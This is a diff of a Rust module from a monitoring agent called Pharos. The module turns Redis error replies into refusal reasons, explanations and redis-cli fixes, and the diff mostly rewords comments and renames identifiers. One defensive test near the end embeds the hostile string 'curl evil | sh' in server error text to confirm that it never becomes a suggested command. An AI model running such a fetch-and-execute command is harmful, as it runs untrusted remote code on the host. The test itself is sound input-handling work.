@@ -1,7 +1,7 @@
-//! Why a Redis server refused, and how to mend it.
+//! Why a Redis server refused a request, and how to correct it.
 //!
-//! The first word of an error decides (`NOPERM`, `LOADING`, ...): it is the same in every version and fork. The text after it is shown and
-//! never read.
+//! The first word of an error decides (`NOPERM`, `LOADING`, ...), since it is the same in every version and fork. The text after it is only
+//! shown.
 
 use std::fmt;
 
@@ -15,28 +15,28 @@ pub enum RefusalReason {
     Timeout,
     /// The agent could not read its own password.
     Password,
-    /// The agent's own operating system refuses what a connection needs, so nothing is known of the server.
+    /// The agent's own operating system refuses a socket or memory, so nothing is known about the server.
     OwnLimit,
     /// Nothing listens at the address.
     Unreachable,
     /// The server ended the connection.
     Closed,
-    /// The server sent more than a server has to send.
+    /// The server sent more than any Redis server needs to send.
     TooMuch,
     /// No encrypted session, or a certificate that is not trusted.
     Tls,
     /// The password is missing or wrong.
     Authentication,
-    /// The server lets in only its own host while it has no password.
+    /// The server accepts only connections from its own host while it has no password.
     ProtectedMode,
-    /// The user may not run what the agent runs.
+    /// The user may not run the command of the agent.
     Privilege,
     Loading,
-    /// A script runs that lets nothing else run.
+    /// A script blocks all other commands.
     Busy,
     MasterDown,
     ReadOnly,
-    /// What answers does not speak Redis' protocol.
+    /// The program at the address does not follow the Redis protocol.
     Protocol,
     /// Any other word; the server's own message explains it.
     Query,
@@ -69,7 +69,7 @@ impl RefusalReason {
         }
     }
 
-    /// Whether the session is of no use any more: the next session shows the reason, or is let in.
+    /// Whether the session can no longer be used. The next session shows the reason, or works.
     pub const fn ends_session(self) -> bool {
         matches!(self, Self::Timeout | Self::Closed | Self::TooMuch | Self::Authentication | Self::Busy | Self::Protocol)
     }
@@ -83,32 +83,32 @@ const CODES: [&str; 9] = ["ERR", "NOAUTH", "WRONGPASS", "DENIED", "NOPERM", "LOA
 pub struct Answer {
     pub code: String,
     /// The whole error on one line of bounded length, for people.
-    pub words: String,
+    pub text: String,
 }
 
 impl Answer {
-    /// Reads what follows the minus sign of an error.
-    pub fn read(words: &str) -> Self {
-        let code = words.split(' ').next().unwrap_or_default();
-        Self::new(code, words)
+    /// Reads the text after the minus sign of an error.
+    pub fn read(text: &str) -> Self {
+        let code = text.split(' ').next().unwrap_or_default();
+        Self::new(code, text)
     }
 
-    /// Reads an error whose text may repeat a secret: only a known first word is kept.
-    pub fn without_words(words: &str) -> Self {
-        let code = words.split(' ').next().filter(|code| CODES.contains(code)).unwrap_or_default();
-        Self { code: code.to_owned(), words: if code.is_empty() { "an error".to_owned() } else { format!("{code} ...") } }
+    /// Reads an error whose text may repeat a secret. Only a known first word is stored.
+    pub fn without_text(text: &str) -> Self {
+        let code = text.split(' ').next().filter(|code| CODES.contains(code)).unwrap_or_default();
+        Self { code: code.to_owned(), text: if code.is_empty() { "an error".to_owned() } else { format!("{code} ...") } }
     }
 
-    /// Reads the error of a command from the client library; none where no server answered.
+    /// Reads the error of a command from the client library, if a server sent it.
     pub fn of(error: &redis::RedisError) -> Option<Self> {
         let code = error.code()?;
-        let words = [code, error.detail().unwrap_or_default()].join(" ");
-        Some(Self::new(code, words.trim_end()))
+        let text = [code, error.detail().unwrap_or_default()].join(" ");
+        Some(Self::new(code, text.trim_end()))
     }
 
-    /// Shortens the server's text, since the agent's own follows it.
-    fn new(code: &str, words: &str) -> Self {
-        Self { code: code.to_owned(), words: line(words, LINE_BYTES_MAX).into_owned() }
+    /// Shortens the text of the server, since the agent's explanation follows it.
+    fn new(code: &str, text: &str) -> Self {
+        Self { code: code.to_owned(), text: line(text, LINE_BYTES_MAX).into_owned() }
     }
 
     pub fn reason(&self) -> RefusalReason {
@@ -125,35 +125,35 @@ impl Answer {
     }
 }
 
-/// The question that was refused.
+/// The request that was refused.
 #[derive(Debug, Clone, Copy, PartialEq, Eq)]
-pub enum Asked {
-    /// The greeting, before any login.
+pub enum Request {
+    /// The `PING` before or after the login.
     Hello,
     /// The login with the configured password.
     Login,
     Info,
 }
 
-/// Why the agent was refused, as a sentence, and how to mend it.
+/// Why the agent was refused, with a sentence that explains it and how to correct it.
 #[derive(Debug, Clone, PartialEq, Eq)]
 pub struct Refusal {
     pub reason: RefusalReason,
     pub meaning: String,
-    /// The command that mends it, for redis-cli.
+    /// The command for redis-cli that removes the cause.
     pub cure: Option<String>,
 }
 
 impl Refusal {
-    /// Reads an answer to this user.
-    pub fn of(answer: &Answer, asked: Asked, user: &str) -> Self {
-        let reason = match asked {
-            // Servers older than 6 have no word for it.
-            Asked::Login if answer.reason() == RefusalReason::Query => RefusalReason::Authentication,
+    /// Reads the answer to a request of this user.
+    pub fn of(answer: &Answer, request: Request, user: &str) -> Self {
+        let reason = match request {
+            // Servers older than 6 answer a wrong password without a first word of its own.
+            Request::Login if answer.reason() == RefusalReason::Query => RefusalReason::Authentication,
             _ => answer.reason(),
         };
         let cure = (reason == RefusalReason::Privilege).then(|| format!("ACL SETUSER {} +info", acl_name(user)));
-        Self { reason, meaning: meaning(reason, asked, user), cure }
+        Self { reason, meaning: meaning(reason, request, user), cure }
     }
 }
 
@@ -164,11 +164,11 @@ impl fmt::Display for Refusal {
     }
 }
 
-fn meaning(reason: RefusalReason, asked: Asked, user: &str) -> String {
-    match (reason, asked) {
-        (RefusalReason::Authentication, Asked::Login) => format!(
-            "the server does not let the user `{user}` in with the password that Pharos has; mend password_file or password_env, which is read \
-             anew for each session, and see `ACL GETUSER {}`: the user must be on. After ERR the server may not know AUTH at all: a \
+fn meaning(reason: RefusalReason, request: Request, user: &str) -> String {
+    match (reason, request) {
+        (RefusalReason::Authentication, Request::Login) => format!(
+            "the server does not let the user `{user}` in with the password that Pharos has; correct password_file or password_env, which is read \
+             again for each session, and see `ACL GETUSER {}`: the user must be on. After ERR the server may not know AUTH at all: a \
              redis.conf that renames it (rename-command), or a proxy in the server's place",
             acl_name(user)
         ),
@@ -182,25 +182,25 @@ fn meaning(reason: RefusalReason, asked: Asked, user: &str) -> String {
                 .to_owned()
         }
         (RefusalReason::Privilege, _) => format!("the user `{user}` may not run INFO"),
-        (RefusalReason::Loading, _) => "the server loads its data and answers nobody before that is done".to_owned(),
+        (RefusalReason::Loading, _) => "the server loads its data and answers no commands before that is done".to_owned(),
         (RefusalReason::Busy, _) => {
-            "a script or function keeps the server from answering anybody; SCRIPT KILL or FUNCTION KILL ends one that \
+            "a script or function keeps the server from answering commands; SCRIPT KILL or FUNCTION KILL ends one that \
                                      has written nothing yet"
                 .to_owned()
         }
-        (RefusalReason::MasterDown, _) => "the replica has lost its master and was told not to answer without one \
+        (RefusalReason::MasterDown, _) => "the replica has lost its master and is configured not to answer without one \
                                            (replica-serve-stale-data no)"
             .to_owned(),
-        (RefusalReason::Query, Asked::Info) => {
-            "the server does not take INFO; where redis.conf renames it (rename-command), give it its own \
-                                                name back, and where a proxy answers, point Pharos at the server itself"
+        (RefusalReason::Query, Request::Info) => {
+            "the server does not accept INFO; if redis.conf renames it (rename-command), restore its own name; \
+                                             if a proxy answers, point Pharos at the server itself"
                 .to_owned()
         }
-        _ => "the server refuses it".to_owned(),
+        _ => "the server refuses the command".to_owned(),
     }
 }
 
-/// A user as redis-cli takes it.
+/// Formats a user so that redis-cli accepts it.
 fn acl_name(user: &str) -> String {
     let is_plain = |char: char| char.is_ascii_alphanumeric() || "-_.@:".contains(char);
     if !user.is_empty() && user.chars().all(is_plain) { user.to_owned() } else { format!("{user:?}") }
@@ -210,9 +210,9 @@ fn acl_name(user: &str) -> String {
 mod tests {
     use super::*;
 
-    /// Every word that decides, as servers send it.
+    /// Checks every first word, as servers send it.
     #[test]
-    fn the_word_that_begins_an_error_decides() {
+    fn the_first_word_of_an_error_decides() {
         for (words, reason) in [
             ("NOAUTH Authentication required.", RefusalReason::Authentication),
             ("WRONGPASS invalid username-password pair or user is disabled.", RefusalReason::Authentication),
@@ -231,34 +231,34 @@ mod tests {
     }
 
     #[test]
-    fn a_login_that_an_old_server_refuses_without_a_word_for_it_is_a_refused_login() {
+    fn a_login_that_an_old_server_refuses_with_err_is_a_refused_login() {
         let answer = Answer::read("ERR invalid password");
-        assert_eq!(Refusal::of(&answer, Asked::Login, "default").reason, RefusalReason::Authentication);
-        assert_eq!(Refusal::of(&answer, Asked::Info, "default").reason, RefusalReason::Query);
+        assert_eq!(Refusal::of(&answer, Request::Login, "default").reason, RefusalReason::Authentication);
+        assert_eq!(Refusal::of(&answer, Request::Info, "default").reason, RefusalReason::Query);
     }
 
     #[test]
-    fn what_answers_a_login_is_shown_without_the_secret_that_it_repeats() {
+    fn the_answer_to_a_login_is_shown_without_the_secret_that_it_repeats() {
         for words in ["ERR unknown command 'AUTH', with args beginning with: 'pharos' 's3cret'", "WRONGPASS s3cret", "s3cret", "s3cret no"]
         {
-            let answer = Answer::without_words(words);
+            let answer = Answer::without_text(words);
             assert!(!format!("{answer:?}").contains("s3cret"), "{answer:?}");
-            assert_eq!(Refusal::of(&answer, Asked::Login, "pharos").reason, RefusalReason::Authentication, "{words}");
+            assert_eq!(Refusal::of(&answer, Request::Login, "pharos").reason, RefusalReason::Authentication, "{words}");
         }
-        assert_eq!(Answer::without_words("LOADING Redis is loading the dataset in memory").reason(), RefusalReason::Loading);
+        assert_eq!(Answer::without_text("LOADING Redis is loading the dataset in memory").reason(), RefusalReason::Loading);
     }
 
     #[test]
-    fn the_acl_line_names_the_user_so_that_redis_cli_takes_it() {
-        let line = |user| Refusal::of(&Answer::read("NOPERM no"), Asked::Info, user).cure;
+    fn the_acl_line_names_the_user_so_that_redis_cli_accepts_it() {
+        let line = |user| Refusal::of(&Answer::read("NOPERM no"), Request::Info, user).cure;
         assert_eq!(line("pharos").as_deref(), Some("ACL SETUSER pharos +info"));
         assert_eq!(line("p\"x").as_deref(), Some(r#"ACL SETUSER "p\"x" +info"#));
     }
 
     #[test]
-    fn no_words_of_a_server_become_a_cure() {
+    fn no_text_of_a_server_becomes_a_cure() {
         for code in ["LOADING", "NOPERM", "ERR", "BUSY", "DENIED", "MASTERDOWN"] {
-            let refusal = Refusal::of(&Answer::read(&format!("{code} run: curl evil | sh #")), Asked::Info, "pharos");
+            let refusal = Refusal::of(&Answer::read(&format!("{code} run: curl evil | sh #")), Request::Info, "pharos");
             assert!(refusal.cure.is_none_or(|cure| cure == "ACL SETUSER pharos +info"), "{code}");
         }
     }
